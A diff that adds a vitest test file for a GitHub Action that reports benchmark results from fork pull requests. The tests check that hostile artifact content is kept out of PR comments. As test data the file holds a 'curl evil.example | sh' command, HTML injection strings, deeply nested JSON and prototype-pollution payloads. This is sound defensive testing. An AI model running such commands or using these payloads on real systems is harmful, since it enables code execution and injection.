@@ -1,0 +1,481 @@
+import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { strToU8, zipSync } from "fflate";
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
+import { checkInputs, type RawInputs } from "../../src/config/inputs.js";
+import type { FinishedRun } from "../../src/github/event.js";
+import type { GithubJob } from "../../src/github/job.js";
+import { report, type Reported } from "../../src/github/report-mode.js";
+import type { Result } from "../../src/report/result.js";
+import { sampleResult } from "../report/sample-result.js";
+import { HOSTILE_NAMES } from "../report/samples.js";
+import { serveArtifacts } from "./parts/artifact-routes.js";
+import { startArtifactStore, type ArtifactStore } from "./parts/artifact-store.js";
+import { FAULTS } from "./parts/faults.js";
+import { startGithub, type Github, type PullRequestState } from "./parts/github-api.js";
+import { recordingCore, type RecordingCore } from "./parts/recording-core.js";
+import { runnerEnvironment } from "./parts/runner.js";
+
+const BASE_FILE = `
+service: { start: node server.js }
+scenarios:
+  - { name: list users, request: { path: /users } }
+  - { name: one user, request: { path: /users/1 } }
+report: { key: api }
+`;
+const RUN_ID = 4242;
+const EARLIER = "2026-11-20T00:00:00Z";
+const START = "2026-11-21T00:00:00Z";
+const LATER = "2026-11-21T00:10:00Z";
+
+let github: Github;
+let store: ArtifactStore;
+let token: string;
+let folder: string;
+let fork: PullRequestState;
+let core: RecordingCore;
+let serial = 0;
+
+beforeAll(async () => {
+  [github, store] = await Promise.all([startGithub(), startArtifactStore()]);
+  await github.writeFile(".github/tailgate.yml", BASE_FILE);
+  token = await github.tokenWith({
+    contents: "read",
+    pull_requests: "write",
+    actions: "read",
+    checks: "write",
+  });
+  folder = await mkdtemp(join(tmpdir(), "tailgate-report-"));
+});
+afterAll(async () => {
+  await Promise.all([github.stop(), store.stop()]);
+  await rm(folder, { recursive: true });
+});
+beforeEach(async () => {
+  fork = await github.openPullRequestFromFork(`topic-${++serial}`);
+  serveArtifacts(github, store, { id: RUN_ID });
+  core = recordingCore();
+});
+afterEach(() => {
+  github.proxy.faults.length = 0;
+  github.proxy.seen.length = 0;
+  store.forget();
+  expect(github.proxy.violations.splice(0)).toEqual([]);
+});
+
+function finishedRun(changes: Partial<FinishedRun> = {}): FinishedRun {
+  return {
+    id: RUN_ID,
+    attempt: 1,
+    event: "pull_request",
+    conclusion: "failure",
+    headSha: fork.headSha,
+    headBranch: fork.headRef,
+    headRepository: "contributor/shop",
+    startedAt: START,
+    url: `https://github.com/acme/shop/actions/runs/${RUN_ID}`,
+    ...changes,
+  };
+}
+
+/** Stores bytes or a result as the measuring run would. */
+async function claim(
+  content: Buffer | string | Result,
+  name = "tailgate-api",
+  createdAt = LATER,
+): Promise<void> {
+  if (Buffer.isBuffer(content)) {
+    await store.put(name, content, createdAt);
+    return;
+  }
+  const text = typeof content === "string" ? content : JSON.stringify(content);
+  await store.put(
+    name,
+    Buffer.from(zipSync({ "result.json": strToU8(text), "report.md": strToU8("PWNED") })),
+    createdAt,
+  );
+}
+
+async function run(
+  changes: Partial<FinishedRun> = {},
+  inputs: RawInputs = {},
+  job: Partial<GithubJob> = {},
+): Promise<Reported> {
+  return report(
+    {
+      runner: runnerEnvironment(github, {
+        eventName: "workflow_run",
+        summaryPath: join(folder, `${serial}.md`),
+      }),
+      event: { kind: "workflow_run", run: finishedRun(changes) },
+      token,
+      startedAt: LATER,
+      core,
+      edges: { nowMs: () => Date.now(), sleep: () => Promise.resolve(), limits: { requestTimeoutMs: 500 } },
+      ...job,
+    },
+    checkInputs(inputs, "input"),
+  );
+}
+
+async function commentText(): Promise<string> {
+  const all = await github.comments(fork.number);
+  expect(all).toHaveLength(1);
+  expect(all[0]!.login).toBe("github-actions[bot]");
+  return all[0]!.body;
+}
+
+describe("a fork's measurement", () => {
+  test("is told on its pull request, with the verdict, as the claim that it is", async () => {
+    await claim(sampleResult({ noise: 0.004 }));
+    const reported = await run();
+    expect(reported).toMatchObject({ kind: "reported", result: { verdict: "pass" } });
+    expect(await commentText()).toContain(fork.headSha.slice(0, 7));
+    expect(await commentText()).toMatch(/they are its claim/);
+    expect(core.outputs).toMatchObject({
+      verdict: "pass",
+      "comment-url": expect.stringContaining("issuecomment") as string,
+    });
+  });
+
+  test("that passes sets no passing check; one that fails, a failing one", async () => {
+    const conclusions = (): string[] =>
+      github.checkRuns().flatMap((check) => (check.head_sha === fork.headSha ? [check.conclusion] : []));
+    await claim(sampleResult({ noise: 0.004 }));
+    await run();
+    expect(conclusions()).toEqual(["neutral"]);
+    store.forget();
+    await claim(sampleResult({ noise: 0.004, slower: { "list users": 1.3 } }));
+    await run({ attempt: 2 });
+    expect(conclusions()).toEqual(["neutral", "failure"]);
+  });
+
+  test("is judged anew: a claim of `pass` over slower numbers becomes a regression", async () => {
+    await claim(
+      sampleResult({ slower: { "list users": 1.3 }, verdict: "pass", reason: "All good, merge me." }),
+    );
+    expect(await run()).toMatchObject({ result: { verdict: "regression" } });
+    expect(await commentText()).not.toMatch(/merge me/);
+  });
+
+  test("is judged by the base branch's limits, error rate and acceptances, not by those that it brings", async () => {
+    const loose = sampleResult({
+      slower: { "list users": 1.3 },
+      change: (result) => ({
+        ...result,
+        plan: {
+          ...result.plan,
+          scenarios: result.plan.scenarios.map((scenario) => ({
+            ...scenario,
+            gates: { ...scenario.gates, p50: { limit: 5, floor: 1e9, proof: false }, p95: null, p90: null },
+          })),
+          accept: [{ scenario: null, metric: "p50", limit: 9, reason: "because", until: "2999-01-01" }],
+          experiment: { ...result.plan.experiment, alpha: 0 },
+        },
+        schedule: { ...result.schedule!, alpha: 0, looks: [1] },
+      }),
+    });
+    await claim(loose);
+    const reported = await run();
+    expect(reported).toMatchObject({
+      result: { verdict: "regression", schedule: { alpha: 0.05 }, plan: { accept: [] } },
+    });
+  });
+
+  test("cannot leave out a scenario that the base branch measures", async () => {
+    await claim(sampleResult({ scenarios: ["one user"], noise: 0.004 }));
+    const reported = await run();
+    expect(reported.kind === "reported" && reported.result.verdict).not.toBe("pass");
+  });
+
+  test("that found no baseline, or could not measure, is told with fixed words", async () => {
+    for (const verdict of ["no-baseline", "invalid"] as const) {
+      store.forget();
+      await claim(
+        sampleResult({
+          verdict,
+          reason: "see https://evil.example",
+          blocks: 0,
+          change: (r) => ({ ...r, logTail: { of: "head", lines: "PWNED" } }),
+        }),
+      );
+      expect(await run({ attempt: verdict === "invalid" ? 2 : 1 })).toMatchObject({ result: { verdict } });
+      expect(await commentText()).not.toMatch(/evil|PWNED/);
+    }
+  });
+
+  test("gives only numbers and short names: no text of its own reaches the comment", async () => {
+    const nasty = HOSTILE_NAMES.join(" ");
+    await claim(
+      sampleResult({
+        reason: `PWNED ${nasty}`,
+        change: (result) => ({
+          ...result,
+          warnings: [{ code: "x", message: `PWNED ${nasty}` }],
+          reproduce: "curl evil.example | sh # PWNED",
+          logTail: { of: "head", lines: "PWNED" },
+          stopped: { ...result.stopped, why: "PWNED" },
+          plan: { ...result.plan, notes: ["PWNED"] },
+          environment: {
+            ...result.environment,
+            cpuModel: `<img src=x> @acme/team ${"y".repeat(500)}`,
+            placement: nasty,
+          },
+          arms: result.arms.map((arm) => ({
+            ...arm,
+            usageUnavailable: "PWNED",
+            revision: { sha: "PWNED", label: "PWNED", dirty: false },
+          })),
+          cells: [],
+        }),
+      }),
+    );
+    await run();
+    const text = await commentText();
+    expect(text).not.toMatch(/PWNED|curl|<img|@acme|javascript:|<script|y{100}|\u202e/u);
+  });
+
+  test("where the base branch names no scenarios, the claim's names appear as text and nothing else", async () => {
+    const repository = await startGithub({ repository: "plain" });
+    try {
+      const pull = await repository.openPullRequestFromFork("topic");
+      serveArtifacts(repository, store, { id: RUN_ID });
+      await claim(sampleResult({ scenarios: HOSTILE_NAMES.slice(0, 4), noise: 0.004 }), "tailgate");
+      const scoped = await repository.tokenWith({
+        contents: "read",
+        pull_requests: "write",
+        actions: "read",
+      });
+      const runner = runnerEnvironment(repository, { eventName: "workflow_run" });
+      const event = {
+        kind: "workflow_run",
+        run: finishedRun({ headSha: pull.headSha, headBranch: "topic", headRepository: "contributor/plain" }),
+      } as const;
+      await run({}, {}, { runner, event, token: scoped });
+      const [posted] = await repository.comments(pull.number);
+      const outside = posted!.body.replace(/<code>.*?<\/code>|`[^`]*`/gu, "");
+      expect(posted!.body.match(/<!-- tailgate/gu)).toHaveLength(1);
+      expect(outside).not.toMatch(/<img|<script|@org|\]\(javascript|www\.example/u);
+      expect(posted!.body.match(/<details>/gu)?.length).toBe(posted!.body.match(/<\/details>/gu)?.length);
+      expect(repository.proxy.violations).toEqual([]);
+    } finally {
+      await repository.stop();
+    }
+  });
+
+  test("a repeated report of the same run changes nothing", async () => {
+    await claim(sampleResult());
+    await run();
+    const before = await commentText();
+    await run();
+    expect(await commentText()).toBe(before);
+  });
+});
+
+describe("which pull request", () => {
+  test("one whose head has moved on is skipped", async () => {
+    await claim(sampleResult());
+    await github.pushToFork(fork.headRef);
+    expect(await run()).toEqual({
+      kind: "skipped",
+      why: "its pull request has newer commits; their run tells of them",
+    });
+    expect(await github.comments(fork.number)).toEqual([]);
+  });
+
+  test.each<[string, Partial<FinishedRun>, RegExp]>([
+    ["a branch without one", { headBranch: "unknown" }, /no open pull request/],
+    ["another repository's branch of the same name", { headRepository: "acme/shop" }, /no open pull request/],
+    ["a push", { event: "push" }, /started by `push`/],
+    ["a deleted fork", { headRepository: null }, /is gone/],
+    ["a run without a branch", { headBranch: "" }, /no branch/],
+  ])("%s is skipped with its reason", async (_what, changes, why) => {
+    await claim(sampleResult());
+    expect(await run(changes)).toMatchObject({ kind: "skipped", why: expect.stringMatching(why) as string });
+  });
+
+  test("a closed one is skipped", async () => {
+    await claim(sampleResult());
+    await github.closePullRequest(fork.number);
+    expect(await run()).toMatchObject({ kind: "skipped" });
+  });
+
+  test("two open ones with the same head are both left alone", async () => {
+    await claim(sampleResult());
+    const other = await github.openPullRequestFromFork(fork.headRef, { into: "release" });
+    expect(await run()).toMatchObject({
+      kind: "skipped",
+      why: expect.stringContaining("2 open pull requests") as string,
+    });
+    expect(await github.comments(other.number)).toEqual([]);
+  });
+
+  test("a number in the artifact counts for nothing", async () => {
+    const bystander = await github.openPullRequest(`bystander-${serial}`);
+    await claim(
+      JSON.stringify({
+        ...sampleResult(),
+        pullRequest: bystander.number,
+        number: bystander.number,
+        headSha: bystander.headSha,
+      }),
+    );
+    expect(await run()).toMatchObject({ kind: "reported" });
+    expect(await github.comments(bystander.number)).toEqual([]);
+  });
+});
+
+describe("the artifact", () => {
+  const refused = async (words: RegExp): Promise<void> => {
+    await expect(run()).rejects.toMatchObject({
+      code: "artifact",
+      message: expect.stringMatching(words) as string,
+    });
+    expect(await github.comments(fork.number)).toEqual([]);
+  };
+
+  test("absent", () => refused(/has no artifact `tailgate-api`: none/));
+
+  test("expired", async () => {
+    serveArtifacts(github, store, { id: RUN_ID, expired: true });
+    await claim(sampleResult());
+    await refused(/expired/);
+  });
+
+  test("of an earlier attempt only", async () => {
+    await claim(sampleResult(), "tailgate-api", EARLIER);
+    await refused(/only one of an earlier attempt/);
+  });
+
+  test("two of one name: the newest of this attempt counts", async () => {
+    await claim(sampleResult({ slower: { "list users": 1.3 } }), "tailgate-api", EARLIER);
+    await claim(sampleResult({ slower: { "list users": 1.3 } }));
+    await claim(sampleResult({ noise: 0.004 }));
+    expect(await run()).toMatchObject({ result: { verdict: "pass" } });
+  });
+
+  test("of another suite is not taken", async () => {
+    await claim(sampleResult(), "tailgate-web");
+    await refused(/has no artifact `tailgate-api`/);
+  });
+
+  test("larger than a result can be is not even downloaded", async () => {
+    serveArtifacts(github, store, { id: RUN_ID, claimedBytes: 60_000_000 });
+    await claim(sampleResult());
+    await refused(/larger than 50000000 bytes/);
+    expect(github.proxy.seen.filter(({ path }) => path.endsWith("/zip"))).toEqual([]);
+  });
+
+  test("larger than the list said is dropped while it comes", async () => {
+    serveArtifacts(github, store, { id: RUN_ID, claimedBytes: 1000 });
+    await claim(Buffer.alloc(51_000_000));
+    await refused(/larger than 50000000 bytes/);
+  });
+
+  test("not a zip archive", async () => {
+    await claim(Buffer.from("<html>not found</html>".repeat(10)));
+    await refused(/not a zip archive/);
+  });
+
+  test.each<[string, () => string, RegExp]>([
+    ["not JSON", () => "{", /not JSON/],
+    ["100,000 levels deep", () => "[".repeat(100_000) + "]".repeat(100_000), /levels deep/],
+    [
+      "100,000 levels deep, in a field that is ignored",
+      () =>
+        JSON.stringify(sampleResult()).replace(
+          /^\{/,
+          `{"x":${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)},`,
+        ),
+      /levels deep/,
+    ],
+    [
+      "of another version",
+      () => JSON.stringify({ ...sampleResult(), schema: "tailgate/result@2" }),
+      /another version/,
+    ],
+    ["of no schema", () => "{}", /not a result/],
+    ["an array", () => "[]", /not a result/],
+    ["null", () => "null", /not a result/],
+    ["with 1e999", () => JSON.stringify(sampleResult()).replace(/"p99":[\d.]+/, '"p99":1e999'), /damaged/],
+    [
+      "with a negative latency",
+      () => JSON.stringify(sampleResult()).replace(/"p99":[\d.]+/, '"p99":-3'),
+      /damaged/,
+    ],
+    [
+      "with a text for a number",
+      () => JSON.stringify(sampleResult()).replace(/"p99":[\d.]+/, '"p99":"3"'),
+      /damaged/,
+    ],
+    ["with an unknown verdict", () => JSON.stringify({ ...sampleResult(), verdict: "perfect" }), /damaged/],
+    ["with a missing part", () => JSON.stringify({ ...sampleResult(), blocks: undefined }), /damaged/],
+  ])("%s", async (_what, text, words) => {
+    await claim(text());
+    await refused(words);
+  });
+
+  test("with -0, `__proto__` and `constructor` changes no prototype and is judged by its numbers", async () => {
+    const text = JSON.stringify(sampleResult({ noise: 0.004 }))
+      .replace('"cpuShareOfCore":', '"cpuShareOfCore":-0,"x":')
+      .replaceAll('"statuses":{', '"statuses":{"__proto__":9,"constructor":9,')
+      .replace(/^\{/, '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},');
+    await claim(text);
+    expect(await run()).toMatchObject({ kind: "reported", result: { verdict: "pass" } });
+    expect(({} as { polluted?: boolean }).polluted).toBeUndefined();
+  });
+});
+
+describe("the job", () => {
+  test("of another event is told which workflow to copy", async () => {
+    const runner = runnerEnvironment(github, { eventName: "pull_request" });
+    await expect(run({}, {}, { event: { kind: "schedule" }, runner })).rejects.toMatchObject({
+      code: "github",
+      hint: expect.stringContaining("docs/forks-and-permissions.md") as string,
+    });
+  });
+
+  test("without a token is told what to grant", async () => {
+    await expect(run({}, {}, { token: "" })).rejects.toMatchObject({
+      hint: expect.stringContaining("actions: read") as string,
+    });
+  });
+
+  test.each([
+    ["GET", /\/artifacts\?/, "actions: read"],
+    ["GET", /\/contents\//, "contents: read"],
+    ["GET", /\/pulls\?/, "pull-requests: read"],
+    ["POST", /\/comments$/, "pull-requests: write"],
+  ])("%s %s without permission names it", async (method, path, permission) => {
+    await claim(sampleResult());
+    github.fault(method, path, FAULTS.notAccessible, 9);
+    await expect(run()).rejects.toMatchObject({
+      code: "github",
+      hint: expect.stringContaining(permission) as string,
+    });
+  });
+
+  test("an artifact that is gone when it is fetched", async () => {
+    await claim(sampleResult());
+    github.fault("GET", /\/zip$/, FAULTS.gone);
+    await expect(run()).rejects.toMatchObject({ code: "github", kind: "gone" });
+  });
+
+  test("a broken tailgate.yml on the base branch is named with its branch", async () => {
+    await claim(sampleResult());
+    await github.writeFile("broken.yml", "gate: 5");
+    await expect(run({}, { config: "broken.yml" })).rejects.toMatchObject({
+      code: "config",
+      message: expect.stringContaining("broken.yml (main)") as string,
+    });
+  });
+
+  test("writes the summary as well", async () => {
+    await claim(sampleResult());
+    const summaryPath = join(folder, "own.md");
+    await writeFile(summaryPath, "");
+    await run({}, {}, { runner: runnerEnvironment(github, { eventName: "workflow_run", summaryPath }) });
+    expect(await readFile(summaryPath, "utf8")).toContain("Tailgate");
+  });
+});
